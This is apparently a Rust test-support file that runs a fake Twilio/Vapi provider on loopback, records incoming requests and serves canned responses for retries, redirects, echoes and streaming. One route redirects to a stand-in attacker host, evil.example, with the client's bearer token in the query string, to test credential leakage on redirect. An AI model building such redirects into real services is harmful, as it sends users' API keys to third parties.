//! A provider of one's own, on loopback: what Vapi or Twilio would see. It records what reaches it.

use std::collections::BTreeMap;
use std::net::Ipv4Addr;
use std::sync::{Arc, Mutex, PoisonError};
use std::time::Duration;

use futures_util::StreamExt as _;
use poem::http::StatusCode;
use poem::listener::TcpAcceptor;
use poem::{Body, Endpoint, Request, Response, Server};
use tokio::net::TcpSocket;
use tokio::sync::Semaphore;

/// The number that the account at this provider has.
pub const OWNED_NUMBER: &str = "+15005550010";

/// A request as it arrived.
#[derive(Clone, Debug)]
pub struct Seen {
    /// The method.
    pub method: String,
    /// The request target, raw.
    pub target: String,
    /// The headers, by lower-case name.
    pub headers: BTreeMap<String, String>,
    /// The body.
    pub body: String,
}

/// A running provider; it stops with its test's runtime.
pub struct Provider {
    /// `http://127.0.0.1:PORT`.
    pub url: String,
    seen: Arc<Mutex<Vec<Seen>>>,
    released: Arc<Semaphore>,
}

struct Answers {
    seen: Arc<Mutex<Vec<Seen>>>,
    released: Arc<Semaphore>,
}

impl Endpoint for Answers {
    type Output = Response;

    async fn call(&self, mut request: Request) -> poem::Result<Response> {
        let headers = request
            .headers()
            .iter()
            .map(|(name, value)| {
                (
                    name.to_string(),
                    String::from_utf8_lossy(value.as_bytes()).into_owned(),
                )
            })
            .collect();
        let sent = request.header("authorization").unwrap_or_default().to_owned();
        let body = request.take_body().into_string().await.unwrap_or_default();
        let target = request.original_uri().to_string();
        self.seen
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .push(Seen {
                method: request.method().to_string(),
                target: target.clone(),
                headers,
                body: body.clone(),
            });
        let response = Response::builder()
            .header("set-cookie", "provider=1")
            .header("x-provider", "yes");
        if target.contains("/IncomingPhoneNumbers.json") {
            // Twilio's own shape; the account has one number.
            let owned = format!(r#"{{"incoming_phone_numbers":[{{"phone_number":"{OWNED_NUMBER}"}}]}}"#);
            let asked = target.contains(&OWNED_NUMBER.replace('+', "%2B"));
            let none = r#"{"incoming_phone_numbers":[]}"#.to_owned();
            return Ok(response
                .content_type("application/json")
                .body(if asked { owned } else { none }));
        }
        // `status/401` has that status; so has `held/401`, once the test releases it.
        let mut words = target.rsplit('/');
        let last = words.next().and_then(|word| word.parse().ok());
        if let (Some(status), Some(how @ ("status" | "held"))) = (last, words.next()) {
            if how == "held" {
                self.released.acquire().await.expect("never closed").forget();
            }
            return Ok(response
                .status(StatusCode::from_u16(status).expect("a status"))
                .finish());
        }
        Ok(match target.rsplit('/').next().unwrap_or_default() {
            "fails-twice" if self.times(&target) <= 2 => {
                response.status(StatusCode::SERVICE_UNAVAILABLE).finish()
            }
            "fails-for-long" => response
                .status(StatusCode::TOO_MANY_REQUESTS)
                .header("retry-after", "60")
                .finish(),
            to if to.starts_with("redirect-to-") => response
                .status(StatusCode::FOUND)
                .header("location", to.replace("redirect-to-", "https://"))
                .finish(),
            "redirect" => response
                .status(StatusCode::FOUND)
                .header("location", "http://127.0.0.1:1/secret")
                .finish(),
            "media" => response
                .status(StatusCode::FOUND)
                .header("location", "https://mms.twiliocdn.com/AC1/ME1?sig=x")
                .finish(),
            "redirect-with-key" => response
                .status(StatusCode::FOUND)
                .header(
                    "location",
                    format!(
                        "https://evil.example/?k={}",
                        sent.replace("Bearer ", "").replace('-', "%2D")
                    ),
                )
                .finish(),
            "echo" => response.body(in_pieces(&format!(r#"{{"authorization":"{sent}"}}"#))),
            "late-echo" => response.body(in_pieces(&format!("{}{sent}", "x".repeat(100_000)))),
            "echo-header" => response.header("x-echo", sent).body("nothing here"),
            "compressed" => response.header("content-encoding", "gzip").body("pretend"),
            "payment-required" => response
                .status(StatusCode::PAYMENT_REQUIRED)
                .content_type("application/json")
                .body(r#"{"code":20003,"message":"no money"}"#),
            "unauthorized" => response
                .status(StatusCode::UNAUTHORIZED)
                .header("www-authenticate", "Basic")
                .body("bad key"),
            // A first piece at once, and the rest only after a client that waits for all of it would have given up.
            "trickle" => {
                let pieces = futures_util::stream::iter(["first", "second"]).then(async |piece| {
                    if piece == "second" {
                        tokio::time::sleep(Duration::from_secs(30)).await;
                    }
                    Ok::<_, std::io::Error>(piece)
                });
                response.body(Body::from_bytes_stream(Box::pin(pieces)))
            }
            _ => response.content_type("application/json").body(body),
        })
    }
}

impl Answers {
    /// How often this has been asked for.
    fn times(&self, target: &str) -> usize {
        let seen = self.seen.lock().unwrap_or_else(PoisonError::into_inner);
        seen.iter().filter(|seen| seen.target == target).count()
    }
}

/// A body whose every piece breaks what is at its end.
fn in_pieces(text: &str) -> Body {
    let (most, rest) = text.split_at(text.len() - 7);
    let pieces = [most.to_owned(), rest.to_owned()].map(Ok::<_, std::io::Error>);
    Body::from_bytes_stream(futures_util::stream::iter(pieces))
}

impl Provider {
    /// On a free port.
    #[must_use]
    pub fn start() -> Self {
        let (_, socket) = Self::absent();
        Self::listening(socket)
    }

    /// The address of one that refuses connections, until it listens on this socket.
    #[must_use]
    pub fn absent() -> (String, TcpSocket) {
        let socket = TcpSocket::new_v4().expect("a socket");
        socket
            .bind((Ipv4Addr::LOCALHOST, 0).into())
            .expect("loopback has free ports");
        let address = socket.local_addr().expect("bound");
        (format!("http://{address}"), socket)
    }

    /// On a socket of [`Provider::absent`].
    #[must_use]
    pub fn listening(socket: TcpSocket) -> Self {
        let url = format!("http://{}", socket.local_addr().expect("bound"));
        let listener = socket.listen(1024).expect("it can");
        let acceptor = TcpAcceptor::from_tokio(listener).expect("it is bound");
        let seen = Arc::new(Mutex::new(Vec::new()));
        let released = Arc::new(Semaphore::new(0));
        let answers = Answers {
            seen: Arc::clone(&seen),
            released: Arc::clone(&released),
        };
        tokio::spawn(Server::new_with_acceptor(acceptor).run(answers));
        Self { url, seen, released }
    }

    /// Lets one `held/…` request have its answer.
    pub fn release(&self) {
        self.released.add_permits(1);
    }

    /// Everything that has reached it so far.
    #[must_use]
    pub fn seen(&self) -> Vec<Seen> {
        self.seen.lock().unwrap_or_else(PoisonError::into_inner).clone()
    }

    /// The last request that reached it.
    #[must_use]
    pub fn last(&self) -> Seen {
        self.seen().pop().expect("something reached the provider")
    }
}
